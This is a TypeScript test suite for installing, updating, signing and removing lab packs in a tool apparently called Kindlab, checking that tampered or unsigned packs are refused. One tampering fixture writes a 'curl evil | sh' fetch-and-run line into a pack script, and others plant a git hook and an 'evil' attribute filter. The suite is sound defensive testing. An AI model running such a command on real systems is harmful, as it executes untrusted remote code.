import { mkdir, readFile, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { PackInspection } from '../../../../contract/pack.ts'
import { runProgram } from '../../../../engine/programs/run-program.ts'
import { labYaml } from '../../../builders/pack-files.ts'
import { writeInto, writePack } from '../../../builders/pack-folder.ts'
import { aSigner } from '../../../builders/minisign.ts'
import { aMachine, commitAll } from './on-the-way.ts'

const version = (text: string): Promise<string> => Promise.resolve(`apiVersion: kindlab.dev/v1\nkind: Pack\nid: small\nversion: ${text}\ntitle: { en: Small, ko: 작은 팩 }\nlicence: CC-BY-4.0\nauthors: [Somebody]\nlocales: { default: en, all: [en, ko] }\n`)

describe('a pack from elsewhere', { timeout: 60_000 }, () => {
  it('is shown with where it is from, who vouches for it and what it asks for, and is not there before it is installed', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'), { '010-one/lab.yaml': labYaml.replace('minutes: 5', 'minutes: 5\nneeds: [namespaces, cluster-scope]\npodSecurity: privileged\nimages: ["nginx:1.29"]\nextraRules: [{ apiGroups: [""], resources: [nodes], verbs: [get, list] }]') })
    const { ticket: _, digest, ...inspection } = await machine.travel.inspect({ source })
    expect(inspection).toEqual({
      pack: 'small',
      version: '1.0.0',
      title: { en: 'Small', ko: '작은 팩' },
      licence: 'CC-BY-4.0',
      authors: ['Somebody'],
      labs: [{ en: 'One', ko: '하나' }],
      files: 6,
      bytes: expect.any(Number),
      asks: { capabilities: ['namespaces', 'cluster-scope'], privileged: true, rights: ['get, list nodes'], components: [], images: ['nginx:1.29'] },
      origin: { kind: 'folder', source },
      signature: { kind: 'unsigned' },
      change: { kind: 'new' },
    })
    expect(digest).toMatch(/^sha256:[0-9a-f]{64}$/)
    expect(await machine.found()).toEqual([])
  })

  it('is among the labs once it is installed, as it was inspected, whatever the source has become', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    const { ticket } = await machine.travel.inspect({ source })
    await rm(source, { recursive: true })
    await machine.travel.install(ticket)
    expect(await machine.found()).toEqual(['small 1.0.0'])
    expect(await machine.travel.list()).toMatchObject([{ kind: 'installed', pack: 'small', origin: { kind: 'folder', source }, pinned: false }])
  })

  it('comes from a zip file with everything in one folder, and from a git repository at a branch or a folder, each with its revision', async () => {
    await using machine = await aMachine()
    const source = join(machine.root, 'repository')
    await writePack(join(source, 'packs', 'small'))
    await writeInto(source, 'README.md', 'About.\n')
    const commit = await commitAll(source)
    await runProgram('git', ['-C', source, 'archive', '--format=zip', '--prefix=small-main/', `--output=${machine.root}/small.zip`, 'HEAD:packs/small'])
    const inspected = [await machine.travel.inspect({ source: join(machine.root, 'small.zip') }), await machine.travel.inspect({ source: `file://${source}#main:packs/small` }), await machine.travel.inspect({ source: `git+file://${source}#${commit}:packs/small/` })]
    expect(new Set(inspected.map(({ digest }) => digest)).size).toBe(1)
    expect(inspected.map(({ origin }) => [origin.kind, origin.revision])).toEqual([['zip', expect.stringMatching(/^sha256:[0-9a-f]{64}$/)], ['git', commit], ['git', commit]])
  })

  it('of a repository are its files as they were committed, whatever its attributes ask for', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'), { 'NOTICE': 'commit $Format:%H$\n' })
    await writeInto(source, '.gitattributes', 'NOTICE export-subst text eol=crlf filter=evil\n010-one export-ignore\n')
    await commitAll(source)
    expect((await machine.travel.inspect({ source: `file://${source}` })).digest).toBe((await machine.travel.inspect({ source })).digest)
  })

  it('leaves what begins with a dot where it is: editors’ files, a repository’s hooks', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    await commitAll(source)
    await writeInto(source, '.git/hooks/post-checkout', '#!/bin/sh\ntouch ran\n')
    await machine.add(source)
    expect((await machine.left()).filter((path) => path.includes('.'))).toEqual(['010-one/lab.yaml', '010-one/solution/make.sh', '010-one/solution/remove.sh', '010-one/text/en.md', '010-one/text/ko.md', 'pack.yaml'].map((path) => expect.stringMatching(new RegExp(`^small/[0-9a-f]{16}/${path}$`))).concat('small/installed.json'))
  })

  it('cannot be run where it lies: no file of it may be executed', async () => {
    await using machine = await aMachine()
    await machine.add(await writePack(join(machine.root, 'from')))
    const script = (await machine.left()).find((path) => path.endsWith('make.sh')) ?? ''
    await expect(runProgram(join(machine.packs, script), [])).rejects.toThrow('EACCES')
  })

  it('is forgotten when it is not wanted, and cannot be installed twice', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    const [one, other] = [await machine.travel.inspect({ source }), await machine.travel.inspect({ source })]
    await machine.travel.discard(one.ticket)
    await expect(machine.travel.install(one.ticket)).rejects.toMatchObject({ problem: { code: 'pack-look-over' } })
    await machine.travel.install(other.ticket)
    await expect(machine.travel.install(other.ticket)).rejects.toMatchObject({ problem: { code: 'pack-look-over' } })
    expect((await machine.left()).filter((path) => path.startsWith('.staging'))).toEqual([])
  })

  it('is not installed over one that somebody else installed meanwhile', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    const [one, other] = [await machine.travel.inspect({ source }), await machine.travel.inspect({ source })]
    await machine.travel.install(one.ticket)
    await expect(machine.travel.install(other.ticket)).rejects.toMatchObject({ problem: { code: 'pack-look-over' } })
  })
})

describe('an update', { timeout: 60_000 }, () => {
  const more = labYaml.replace('minutes: 5', 'minutes: 5\nneeds: [namespaces, nodes]\ncomponents: [metrics-server]')

  it('shows both versions and what is newly asked for, then takes the old one’s place', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    await machine.add(source)
    await writePack(source, { 'pack.yaml': await version('1.10.0'), '010-one/lab.yaml': more })
    const { change, version: next, ticket } = await machine.travel.inspectUpdate('small')
    expect([change, next]).toEqual([{ kind: 'update', from: '1.0.0', asksMore: { capabilities: ['nodes'], privileged: false, rights: [], components: ['metrics-server'], images: [] } }, '1.10.0'])
    expect(await machine.found()).toEqual(['small 1.0.0'])
    await machine.travel.install(ticket)
    expect(await machine.found()).toEqual(['small 1.10.0'])
    expect((await machine.left()).filter((path) => path.endsWith('pack.yaml'))).toHaveLength(1)
  })

  it('is none where the source has what is installed', async () => {
    await using machine = await aMachine()
    await machine.add(await writePack(join(machine.root, 'from')))
    expect((await machine.travel.inspectUpdate('small')).change).toEqual({ kind: 'none' })
  })

  it('does not go back to an older version, which is told by numbers', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'), { 'pack.yaml': await version('1.10.0') })
    await machine.add(source)
    await writePack(source, { 'pack.yaml': await version('1.9.0') })
    await expect(machine.travel.inspectUpdate('small')).rejects.toMatchObject({ problem: { code: 'pack-older', params: { found: '1.9.0', installed: '1.10.0' } } })
  })

  it('waits while the pack is pinned, also one that was looked at before', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    await machine.add(source)
    await writePack(source, { 'pack.yaml': await version('1.1.0') })
    const { ticket } = await machine.travel.inspectUpdate('small')
    await machine.travel.pin('small', true)
    await expect(machine.travel.inspectUpdate('small')).rejects.toMatchObject({ problem: { code: 'pack-is-pinned' } })
    await expect(machine.travel.install(ticket)).rejects.toMatchObject({ problem: { code: 'pack-look-over' } })
    await machine.travel.pin('small', false)
    expect((await machine.travel.inspectUpdate('small')).change.kind).toBe('update')
  })

  it('of a pack that is another one now is refused', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    await machine.add(source)
    await writePack(source, { 'pack.yaml': (await version('2.0.0')).replace('id: small', 'id: large') })
    await expect(machine.travel.inspectUpdate('small')).rejects.toMatchObject({ problem: { code: 'pack-id-other', params: { pack: 'small', found: 'large' } } })
  })
})

describe('a signature', { timeout: 60_000 }, () => {
  async function signed(machine: Awaited<ReturnType<typeof aMachine>>, name: string, signer = aSigner(), changes: Parameters<typeof writePack>[1] = {}) {
    const source = await writePack(join(machine.root, name), changes)
    await machine.travel.lock(source)
    await signer.sign(source)
    return { source, signer }
  }
  const signatureOf = ({ signature }: PackInspection): unknown => signature

  it('by a key that came along is shown as no more than that; by the key that was given, as given', async () => {
    await using machine = await aMachine()
    const { source, signer } = await signed(machine, 'from')
    const expected = { kind: 'signed', key: signer.publicKey, comment: 'small by Somebody' }
    expect(signatureOf(await machine.travel.inspect({ source }))).toEqual({ ...expected, trust: 'came-along' })
    expect(signatureOf(await machine.travel.inspect({ source, key: signer.publicKey }))).toEqual({ ...expected, trust: 'given' })
    expect(signatureOf(await machine.travel.inspect({ source, key: `untrusted comment: x\n${signer.publicKey}\n` }))).toEqual({ ...expected, trust: 'given' })
  })

  it('by a key that signed another pack of this machine, or the version before, is known', async () => {
    await using machine = await aMachine()
    const { source, signer } = await signed(machine, 'from')
    await machine.add(source)
    const other = await signed(machine, 'other', signer, { 'pack.yaml': (await version('1.0.0')).replace('id: small', 'id: other') })
    expect(signatureOf(await machine.travel.inspect({ source: other.source }))).toMatchObject({ trust: 'signed-another' })
    await signed(machine, 'from', signer, { 'pack.yaml': await version('1.1.0') })
    expect(signatureOf(await machine.travel.inspectUpdate('small'))).toMatchObject({ trust: 'same-as-before' })
  })

  it('without any key, with an unreadable one, or by another key than was given, is refused', async () => {
    await using machine = await aMachine()
    const { source } = await signed(machine, 'from')
    await expect(machine.travel.inspect({ source, key: aSigner().publicKey })).rejects.toMatchObject({ problem: { code: 'pack-key-other' } })
    await expect(machine.travel.inspect({ source, key: 'RWQnonsense' })).rejects.toMatchObject({ problem: { code: 'pack-key-unreadable' } })
    await rm(join(source, 'minisign.pub'))
    await expect(machine.travel.inspect({ source })).rejects.toMatchObject({ problem: { code: 'pack-key-missing' } })
  })

  it('that must be there and is not is missed', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    await expect(machine.travel.inspect({ source, key: aSigner().publicKey })).rejects.toMatchObject({ problem: { code: 'pack-signature-gone' } })
  })

  it('by another key than the version before, or none any more, keeps an update out', async () => {
    await using machine = await aMachine()
    const { source } = await signed(machine, 'from')
    await machine.add(source)
    await signed(machine, 'from', aSigner(), { 'pack.yaml': await version('1.1.0') })
    await expect(machine.travel.inspectUpdate('small')).rejects.toMatchObject({ problem: { code: 'pack-key-other' } })
    await rm(join(source, 'pack.lock.minisig'))
    await expect(machine.travel.inspectUpdate('small')).rejects.toMatchObject({ problem: { code: 'pack-signature-gone' } })
    expect(await machine.found()).toEqual(['small 1.0.0'])
  })

  it.each<[string, (source: string) => Promise<void>, string]>([
    ['a file that was changed', (source) => writeInto(source, '010-one/solution/make.sh', 'curl evil | sh\n'), 'pack-list-differs'],
    ['a file that was added', (source) => writeInto(source, 'README.md', 'Hello.\n'), 'pack-list-differs'],
    ['a file that was taken away', (source) => rm(join(source, '010-one/text/ko.md')), 'pack-refused'],
    ['a list that was written anew', async (source) => writeInto(source, 'pack.lock', (await readFile(join(source, 'pack.lock'), 'utf8')).replace(/^/, '\n')), 'pack-signature-wrong'],
    ['a signed comment that was changed', async (source) => writeInto(source, 'pack.lock.minisig', (await readFile(join(source, 'pack.lock.minisig'), 'utf8')).replace('Somebody', 'Everybody')), 'pack-signature-wrong'],
    ['a signature that is none', (source) => writeInto(source, 'pack.lock.minisig', 'signed\n'), 'pack-signature-unreadable'],
    ['no list', (source) => rm(join(source, 'pack.lock')), 'pack-list-missing'],
  ])('does not hold with %s', async (_, change, code) => {
    await using machine = await aMachine()
    const { source } = await signed(machine, 'from')
    await change(source)
    await expect(machine.travel.inspect({ source })).rejects.toMatchObject({ problem: { code } })
  })

  it('is not replaced by a key of the same number', async () => {
    await using machine = await aMachine()
    const { source, signer } = await signed(machine, 'from')
    const [own, others] = [signer.publicKey, aSigner().publicKey].map((key) => Buffer.from(key, 'base64'))
    const forged = Buffer.concat([own?.subarray(0, 10) ?? Buffer.alloc(0), others?.subarray(10) ?? Buffer.alloc(0)]).toString('base64')
    await expect(machine.travel.inspect({ source, key: forged })).rejects.toMatchObject({ problem: { code: 'pack-signature-wrong' } })
  })
})

describe('what is here already', { timeout: 60_000 }, () => {
  it('keeps its name: a pack that comes with Kindlab, one put there by hand, one from elsewhere', async () => {
    await using machine = await aMachine()
    const source = await writePack(join(machine.root, 'from'))
    await writePack(join(machine.builtIn, 'small'))
    await expect(machine.travel.inspect({ source })).rejects.toMatchObject({ problem: { code: 'pack-id-built-in', params: { pack: 'small' } } })
    await rm(machine.builtIn, { recursive: true })
    await writePack(join(machine.packs, 'mine'))
    await expect(machine.travel.inspect({ source })).rejects.toMatchObject({ problem: { code: 'pack-by-hand' } })
    await rm(join(machine.packs, 'mine'), { recursive: true })
    await machine.add(source)
    await expect(machine.travel.inspect({ source })).rejects.toMatchObject({ problem: { code: 'pack-here-already', params: { source } } })
  })

  it('is removed without a trace of the pack, and without touching anything beside it', async () => {
    await using machine = await aMachine()
    const journal = join(machine.root, 'home', 'attempts', 'one', 'journal.jsonl')
    await mkdir(join(journal, '..'), { recursive: true })
    await writeFile(journal, '{}\n')
    await machine.add(await writePack(join(machine.root, 'from')))
    await machine.travel.remove('small')
    expect(await machine.left()).toEqual([])
    expect(await readFile(journal, 'utf8')).toBe('{}\n')
  })

  it.each(['pin', 'remove', 'inspectUpdate'] as const)('stays where it came with Kindlab: %s', async (deed) => {
    await using machine = await aMachine()
    await writePack(join(machine.builtIn, 'small'))
    const act = { pin: () => machine.travel.pin('small', true), remove: () => machine.travel.remove('small'), inspectUpdate: () => machine.travel.inspectUpdate('small') }[deed]
    await expect(act()).rejects.toMatchObject({ problem: { code: 'pack-stays' } })
    expect(await machine.found()).toEqual(['small 1.0.0'])
  })

  it('is never half a pack: a folder that no record names, or a record that is spoilt, is none', async () => {
    await using machine = await aMachine()
    await machine.add(await writePack(join(machine.root, 'from')))
    await writePack(join(machine.packs, 'small', 'deadbeefdeadbeef'), { 'pack.yaml': await version('9.0.0') })
    await writePack(join(machine.packs, 'large', 'deadbeefdeadbeef'), { 'pack.yaml': (await version('1.0.0')).replace('id: small', 'id: large') })
    await writePack(join(machine.packs, '.staging', 'dead', 'pack'))
    expect(await machine.found()).toEqual(['small 1.0.0'])
    await writeFile(join(machine.packs, 'small', 'installed.json'), '{"folder"')
    expect(await machine.found()).toEqual([])
  })

  it('of a process that was killed on the way is swept away by the next', async () => {
    await using machine = await aMachine()
    await writePack(join(machine.packs, '.staging', 'dead', 'pack'))
    await writeFile(join(machine.packs, '.staging', 'dead', 'owner'), JSON.stringify({ pid: 2 ** 22 + 1, began: 'then' }))
    await machine.add(await writePack(join(machine.root, 'from')))
    expect((await machine.left()).filter((path) => path.startsWith('.staging'))).toEqual([])
  })
})
